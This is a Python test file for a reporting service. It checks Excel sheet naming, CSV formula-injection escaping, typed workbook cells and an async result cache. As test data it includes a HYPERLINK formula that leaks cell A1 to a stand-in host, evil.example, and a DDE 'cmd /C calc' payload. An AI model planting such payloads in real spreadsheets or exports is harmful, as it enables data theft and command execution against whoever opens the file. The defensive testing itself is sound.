"""The reports as files: a sheet is named by its table's title within Excel's rules, a string
written to a workbook stays a string (never a formula or a number), a CSV value a spreadsheet
would compute gets a leading apostrophe while phones and plain numbers stay as they are, and the
figures kept a while are computed once for everyone asking meanwhile."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.child import INVALID_TITLE_REGEX

from hub.services.reports.files import Table, csv_safe, csv_text, sheet_title, xlsx_bytes
from hub.services.reports.recent import Recent

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'


@pytest.mark.parametrize(
    ("title", "sheet"),
    [
        ("KPI: contacts refined", "KPI — contacts refined"),
        ("Пропущено: никто в отдельности", "Пропущено — никто в отдельности"),
        ("Вне рабочего времени: Константин", "Вне рабочего времени — Констант"),
        ("a/b\\c?d*e[f]g", "a b c d e f g"),
        ("'quoted'", "quoted"),
        ("::", "Sheet"),
        ("Звонки", "Звонки"),
    ],
)
def test_a_sheet_is_named_within_excels_rules(title: str, sheet: str) -> None:
    assert sheet_title(title) == sheet
    assert len(sheet) <= 31 and not INVALID_TITLE_REGEX.search(sheet)
    book = load_workbook(io.BytesIO(xlsx_bytes(Table(title, ["a"], [["b"]]))))
    assert book.sheetnames == [sheet]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("+79031112233", "+79031112233"),
        ("-5", "-5"),
        ("-1.5", "-1.5"),
        ("+", "+"),
        ("ООО Ромашка", "ООО Ромашка"),
        ("", ""),
    ],
)
def test_a_csv_value_a_spreadsheet_would_compute_begins_with_an_apostrophe(
    value: str, written: str
) -> None:
    assert csv_safe(value) == written


def test_strings_from_outside_stay_text_in_both_files() -> None:
    # A file's moments are the company's wall-clock time, without a zone (files._local).
    moment = datetime(2026, 11, 23, 8, 0)  # noqa: DTZ001
    table = Table(
        "Пропущено: Иван",
        ["=Клиент", "Номер", "Звонков", "Когда"],
        [[EVIL, "+79031112233", 3, moment], ["ООО\x0b Ромашка", "-1+2", -1, None]],
    )
    rows = list(csv.reader(io.StringIO(csv_text(table))))
    assert rows == [
        ["'=Клиент", "Номер", "Звонков", "Когда"],
        ["'" + EVIL, "+79031112233", "3", "2026-11-23 08:00"],
        ["ООО\x0b Ромашка", "'-1+2", "-1", ""],
    ]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(table))).active
    assert sheet is not None
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
    assert cells[0][0] == ("=Клиент", "s")
    assert cells[1] == [(EVIL, "s"), ("+79031112233", "s"), (3, "n"), (moment, "d")]
    # A control character, which a workbook cannot hold, is left out rather than refused.
    assert cells[2][:3] == [("ООО Ромашка", "s"), ("-1+2", "s"), (-1, "n")]


START = datetime(2026, 11, 25, 7, 30, tzinfo=UTC)


async def test_figures_are_computed_once_while_kept() -> None:
    kept: Recent[str, int] = Recent(keep=timedelta(seconds=60), size=2)
    computed: list[str] = []
    started, release = asyncio.Event(), asyncio.Event()

    async def compute(key: str) -> int:
        computed.append(key)
        started.set()
        await release.wait()
        return len(computed)

    # Four asking at once (the page and its three charts) share one computation.
    waiting = [asyncio.create_task(kept.get("p", START, lambda: compute("p"))) for _ in range(4)]
    await started.wait()
    release.set()
    assert await asyncio.gather(*waiting) == [1, 1, 1, 1]
    assert await kept.get("p", START + timedelta(seconds=59), lambda: compute("p")) == 1
    # A minute later, or with the clock moved back, the figures are computed again.
    assert await kept.get("p", START + timedelta(seconds=60), lambda: compute("p")) == 2
    assert await kept.get("p", START, lambda: compute("p")) == 3
    # At most two kept: the oldest is dropped first.
    await kept.get("q", START, lambda: compute("q"))
    await kept.get("r", START, lambda: compute("r"))
    assert len(kept) == 2
    assert await kept.get("p", START, lambda: compute("p")) == 6
    await kept.close()
    assert len(kept) == 0


async def test_a_failed_computation_is_not_kept() -> None:
    kept: Recent[str, int] = Recent(keep=timedelta(seconds=60), size=4)
    attempts: list[int] = []

    async def compute() -> int:
        attempts.append(1)
        if len(attempts) == 1:
            raise RuntimeError("the database went away")
        return 7

    with pytest.raises(RuntimeError):
        await kept.get("p", START, compute)
    assert await kept.get("p", START, compute) == 7
    assert len(attempts) == 2


async def test_a_computation_goes_on_when_whoever_started_it_goes_away() -> None:
    kept: Recent[str, str] = Recent(keep=timedelta(seconds=60), size=4)
    started, release = asyncio.Event(), asyncio.Event()
    runs: list[int] = []

    async def compute() -> str:
        runs.append(1)
        started.set()
        await release.wait()
        return "figures"

    first = asyncio.create_task(kept.get("p", START, compute))
    await started.wait()
    first.cancel()
    second = asyncio.create_task(kept.get("p", START, compute))
    release.set()
    assert await second == "figures"
    assert first.cancelled() and len(runs) == 1
